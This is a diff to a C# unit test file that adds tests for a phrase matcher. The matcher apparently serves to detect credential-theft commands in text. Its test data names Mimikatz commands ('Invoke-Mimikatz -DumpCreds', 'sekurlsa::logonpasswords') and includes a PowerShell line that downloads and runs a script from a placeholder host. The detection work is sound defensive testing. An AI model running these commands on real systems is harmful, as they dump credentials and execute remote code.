@@ -49,6 +49,42 @@ public class TextTermsTests
         }
     }
 
+    [Fact]
+    public void Phrases_agree_with_each_phrase_in_turn_on_random_texts()
+    {
+        var random = new Random(9);
+        for (var i = 0; i < 3_000; i++)
+        {
+            var phrases = Enumerable.Range(0, random.Next(1, 5))
+                .Select(_ => Enumerable.Range(0, random.Next(0, 4)).Select(_ => Words[random.Next(Words.Length)]).ToArray())
+                .ToArray();
+            var compiled = new TextPhrases(phrases);
+            for (var j = 0; j < 10; j++)
+            {
+                var alphabet = random.Next(3) == 0 ? Alphabet : AsciiAlphabet;
+                var text = RandomText(random, alphabet, random.Next(0, 24));
+                var expected = phrases.Any(p => TextAnalysis.ContainsPhrase(text, p));
+                Assert.True(
+                    expected == compiled.ContainsAny(text),
+                    $"phrases [{string.Join(" | ", phrases.Select(p => string.Join(" ", p)))}] text '{text}'");
+            }
+        }
+    }
+
+    [Theory]
+    [InlineData("PS> Invoke-Mimikatz -DumpCreds", true)]
+    [InlineData("invoke x mimikatz; dump", false)]
+    [InlineData("sekurlsa::logonpasswords", true)] // "::" is no Mid sequence: two tokens
+    [InlineData("DumpCreds now", true)] // a one-word phrase is the word
+    [InlineData("Mimikatz Invoke", false)]
+    [InlineData("\u212Aerberos::list", true)] // non-ASCII: Kelvin sign lowercases to k
+    [InlineData(null, false)]
+    public void Any_phrase(string? text, bool expected)
+    {
+        var phrases = new TextPhrases(new[] { "invoke", "mimikatz" }, new[] { "sekurlsa", "logonpasswords" }, new[] { "kerberos", "list" }, new[] { "dumpcreds" });
+        Assert.Equal(expected, phrases.ContainsAny(text));
+    }
+
     [Theory]
     [InlineData("[Kernel32]::VirtualAlloc(0, 4096)", true)]
     [InlineData("# VirtualAllocation is documented", false)] // a substring, not a token: the prefilter passes, tokens decide
@@ -85,6 +121,7 @@ public class TextTermsTests
     {
         var any = new TextTerms("iex", "invoke", "downloadstring");
         var phrase = new TextTerms("invoke", "mimikatz");
+        var phrases = new TextPhrases(new[] { "invoke", "mimikatz" }, new[] { "iex" });
         string[] texts = { "IEX (New-Object Net.WebClient).DownloadString('http://x/y.ps1'); Invoke-Mimikatz", "Get-Help", "\u00e9t\u00e9 invoke" };
         void Run()
         {
@@ -93,6 +130,7 @@ public class TextTermsTests
                 any.ContainsAny(text);
                 any.ContainsAll(text);
                 phrase.ContainsPhrase(text);
+                phrases.ContainsAny(text);
             }
         }
 
